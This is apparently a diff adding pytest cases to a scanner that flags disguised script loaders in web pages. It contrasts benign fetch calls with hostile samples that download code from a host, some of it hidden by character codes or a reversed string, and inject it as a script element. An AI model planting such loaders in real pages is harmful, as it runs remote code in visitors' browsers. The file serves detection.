@@ -247,3 +247,45 @@ def test_attributes_that_are_no_handlers_of_what_was_kept(name: str) -> None:
 def test_what_was_kept_as_the_text_of_a_handler(name: str) -> None:
     assert on_page(HANDLER_GUILTY[name], "").message in {"kept", "loader"}
     assert in_file(HANDLER_GUILTY[name], "").message in {"kept", "loader"}
+
+
+# A script that is made of what an address in disguise answers.
+ASK = "fetch({}).then(function(r){{return r.text()}}).then(function(t){{{}}});"
+RUN = "var s=document.createElement('script');s.{}=t;document.head.appendChild(s)"
+ANSWER_HONEST = {
+    "shown as text": ASK.format(MODULE, "document.title=t"),
+    "put into a box": ASK.format(MODULE, "var d=document.createElement('div');d.textContent=t"),
+    "from where all can see it": ASK.format(f"'{HOST}/m.js'", RUN.format("text")),
+    "from the site": ASK.format("'/js/inti.js'", RUN.format("textContent")),
+    "scripts of the site's own pages made anew": "document.querySelectorAll('#isi script').forEach("
+    "function(a){var s=document.createElement('script');s.text=a.text;a.replaceWith(s)});",
+    "what a banner of consent kept back": "document.querySelectorAll('[data-izin]').forEach(function"
+    "(e){var s=document.createElement('script');s.textContent=e.textContent;e.replaceWith(s)});",
+}
+ANSWER_GUILTY = {
+    "its text": ASK.format(MODULE, RUN.format("text")),
+    "its contents": ASK.format(MODULE, RUN.format("textContent")),
+    "its inner text": ASK.format(
+        f"String.fromCharCode({codes(HOST + '/m')})", RUN.format("innerText")
+    ),
+    "by an older request": f"var x=new XMLHttpRequest();x.open('GET',{MODULE});"
+    "x.onreadystatechange=function(){if(x.readyState==4){var s=document.createElement('script');"
+    "s.text=x.responseText;document.body.appendChild(s)}};x.send();",
+    "awaited": f"(async()=>{{const r=await fetch({MODULE}),s=document.createElement('script');"
+    "s.textContent=await r.text();document.head.append(s)})();",
+    "backwards": ASK.format(
+        f"'{(HOST + '/m.js')[::-1]}'.split('').reverse().join('')", RUN.format("text")
+    ),
+}
+
+
+@pytest.mark.parametrize("name", ANSWER_HONEST)
+def test_answers_that_are_no_disguised_scripts(name: str) -> None:
+    assert not_accused(on_page(ANSWER_HONEST[name], ""))
+    assert not_accused(in_file(ANSWER_HONEST[name], ""))
+
+
+@pytest.mark.parametrize("name", ANSWER_GUILTY)
+def test_scripts_of_what_a_disguised_address_answers(name: str) -> None:
+    assert on_page(ANSWER_GUILTY[name], "").message in {"loader", "smuggled"}
+    assert in_file(ANSWER_GUILTY[name], "").message in {"loader", "smuggled"}
